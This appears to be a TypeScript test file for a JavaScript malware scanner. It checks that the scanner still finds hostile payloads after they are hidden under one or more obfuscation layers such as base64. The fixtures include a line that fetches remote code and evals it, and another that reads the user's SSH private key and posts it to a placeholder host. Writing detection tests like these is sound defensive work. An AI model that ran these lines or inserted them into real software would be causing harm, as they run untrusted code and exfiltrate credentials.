import { JAVASCRIPT_LAYERS } from '../../testing/layers-javascript';
import type { HidingLayer } from '../../testing/layers-python';
import { readJavascript } from './read-javascript';

const PAYLOADS = [
  [
    'runs what it fetches',
    'remote-code',
    'fetch("https://a.invalid/x").then((r) => r.text()).then((t) => eval(t));\n',
  ],
  [
    'sends a private key',
    'secret-sent',
    'const key = require("fs").readFileSync(require("os").homedir() + "/.ssh/id_rsa");\nrequire("https").request("https://a.invalid").end(key);\n',
  ],
] as const;

/** What a finding says was undone, before it says what was seen; each on its way. */
function seenIn(code: string, signal: string): string | undefined {
  return readJavascript('x.js', code).observations.find((seen) => seen.signal === signal)?.evidence;
}

const told = (layer: HidingLayer) =>
  layer.told === '' ? '' : `decoded from [^:]*${layer.told}[^:]* at line \\d+`;

const DECODABLE = JAVASCRIPT_LAYERS.filter((layer) => layer.told !== undefined);
const OPAQUE = JAVASCRIPT_LAYERS.filter((layer) => layer.told === undefined);
const ALONE = DECODABLE.flatMap((layer) =>
  PAYLOADS.map((payload) => [layer.name, ...payload, layer] as const),
);
const PAIRS = DECODABLE.flatMap((outer) =>
  DECODABLE.map((inner) => [`${inner.name} under ${outer.name}`, inner, outer] as const),
);
const HIDDEN = OPAQUE.flatMap((opaque) => [
  [opaque.name, opaque.hide(PAYLOADS[0][2])] as const,
  ...DECODABLE.map(
    (layer) => [`${opaque.name} under ${layer.name}`, layer.hide(opaque.hide(PAYLOADS[0][2]))] as const,
  ),
]);

describe('ast/javascript/layers', () => {
  it.each(ALONE)('%s: %s', (_name, _what, signal, code, layer) => {
    expect(seenIn(layer.hide(code), signal)).toMatch(new RegExp(told(layer)));
  });

  it.each(PAIRS)('%s', (_name, inner, outer) => {
    const [, signal, code] = PAYLOADS[1];
    const seen = seenIn(outer.hide(inner.hide(code)), signal);

    expect(seen).toMatch(new RegExp([told(outer), told(inner)].filter((each) => each !== '').join(': ')));
  });

  it.each(HIDDEN)('%s: says that hidden code is evaluated', (_name, code) => {
    expect(readJavascript('x.js', code).observations.map(({ signal }) => signal)).toContain('decoded-code');
  });

  it('follows eight layers, and says of the ninth that it was made unreadable', () => {
    const base64 = DECODABLE.find(({ name }) => name === 'base64')!;
    const layered = (count: number) =>
      Array.from({ length: count }).reduce<string>((code) => base64.hide(code), PAYLOADS[1][2]);

    expect([seenIn(layered(8), 'secret-sent'), seenIn(layered(8), 'obfuscation')]).toEqual([
      expect.stringMatching(/^(?:decoded from base64 at line 1: ){8}/),
      undefined,
    ]);
    expect([seenIn(layered(9), 'secret-sent'), seenIn(layered(9), 'obfuscation')]).toEqual([
      undefined,
      expect.stringContaining('eval'),
    ]);
  });
});
